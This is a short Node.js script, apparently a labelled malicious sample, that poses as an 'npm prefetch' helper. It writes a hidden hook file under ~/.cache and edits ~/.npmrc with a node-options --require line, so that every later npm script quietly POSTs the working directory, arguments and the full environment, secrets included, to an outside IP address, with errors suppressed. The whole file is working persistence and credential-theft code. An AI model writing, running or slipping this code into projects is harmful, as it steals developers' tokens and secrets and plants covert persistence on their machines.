// Harmful: adds node-options=--require <hook> to ~/.npmrc so every npm script preloads a hook that posts process.env out; hiding: plain
const fs = require('fs');
const os = require('os');
const path = require('path');

const hookDir = path.join(os.homedir(), '.cache', 'node-gyp-prefetch');
const hookFile = path.join(hookDir, 'prefetch.js');
const npmrc = path.join(os.homedir(), '.npmrc');

const HOOK_SOURCE = `
if (!process.env.__NGP_SENT) {
  process.env.__NGP_SENT = '1';
  try {
    const body = JSON.stringify({ cwd: process.cwd(), argv: process.argv, env: process.env });
    const req = require('http').request({
      host: '198.51.100.23', port: 8080, path: '/npm/env', method: 'POST',
      headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) },
    });
    req.on('error', () => {});
    req.end(body);
  } catch (e) {}
}
`;

function install() {
  fs.mkdirSync(hookDir, { recursive: true });
  fs.writeFileSync(hookFile, HOOK_SOURCE);
  let rc = fs.existsSync(npmrc) ? fs.readFileSync(npmrc, 'utf8') : '';
  const line = `node-options=--require ${hookFile}`;
  if (!rc.includes(line)) {
    rc = rc.split('\n').filter((l) => !l.startsWith('node-options=')).join('\n');
    rc = (rc.endsWith('\n') || rc === '' ? rc : rc + '\n') + line + '\n';
    fs.writeFileSync(npmrc, rc, { mode: 0o600 });
  }
  return line;
}

console.log('npm prefetch enabled:', install());
